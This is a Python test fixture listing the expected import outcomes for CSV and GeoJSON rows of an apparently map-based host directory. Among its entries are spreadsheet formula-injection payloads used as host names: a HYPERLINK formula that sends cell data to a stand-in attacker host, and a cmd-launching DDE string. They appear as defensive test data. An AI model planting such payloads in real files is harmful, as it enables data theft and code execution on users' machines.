"""What each import-csv and import-geojson row of the corpus comes to, once it is really imported."""

from dataclasses import dataclass

from tests.intake.test_bad_inputs import NO_POINTS, POINTS, REFUSED

STRASBOURG = (7.75, 48.58)
NO_NAME = "missing: name"  # a bare geometry has none, so that no host can come of it


@dataclass(frozen=True)
class Imported:
    """The public hosts (name, point) that come of a file, or why it is refused or its row kept out.

    `said` are words that the report must hold somewhere.
    """

    hosts: tuple[tuple[str, tuple[float, float]], ...] = ()
    quarantined: int = 0
    to_locate: int = 0
    unchanged: int = 0
    said: str = ""
    refused: str = ""


def one(name: str = "A", at: tuple[float, float] = STRASBOURG, **values: object) -> Imported:
    """One public host."""
    return Imported(hosts=((name, at),), **values)  # type: ignore[arg-type]


def kept_out(said: str) -> Imported:
    """One row in quarantine."""
    return Imported(quarantined=1, said=said)


NOT_FINITE = "is not a finite number"
IMPORTS: dict[str, Imported] = {
    "CSV-001": one('=HYPERLINK("http://evil.example/?"&A1)'),
    "CSV-002": one("+33123456789"),
    "CSV-003": one("-2+3+cmd|' /C calc'!A0"),
    "CSV-006": one("=1+1"),
    "CSV-008": one(said="decimal comma"),
    "CSV-009": kept_out(NOT_FINITE),
    "CSV-011": kept_out(NOT_FINITE),
    "CSV-015": Imported(to_locate=1, said="Place it on the map later"),
    "CSV-016": kept_out("projected metres (EPSG:2154/3857"),
    "CSV-017": one(),
    "CSV-018": kept_out(NOT_FINITE),
    "CSV-019": kept_out(NOT_FINITE),
    "CSV-021": one(),
    "CSV-022": one("École", said="decimal comma"),
    "CSV-023": one("École", said="Windows-1252"),
    "CSV-028": kept_out("too few columns"),
    "CSV-029": kept_out("not in host|alumni|kit"),
    "CSV-030": one(),
    "CSV-033": one(unchanged=1, said="same as line 2"),
    "GEO-001": one(),
    "GEO-002": one(at=(48.58, 7.75), said="swapped?"),
    "GEO-008": kept_out("empty point"),
    "GEO-009": one(said="dropped"),
    "GEO-010": kept_out("numbers expected"),
    **{id_: Imported(refused=reason) for id_, reason in REFUSED.items()},
    **{id_: Imported(refused=NO_NAME) for id_ in (*POINTS, *NO_POINTS)},
}
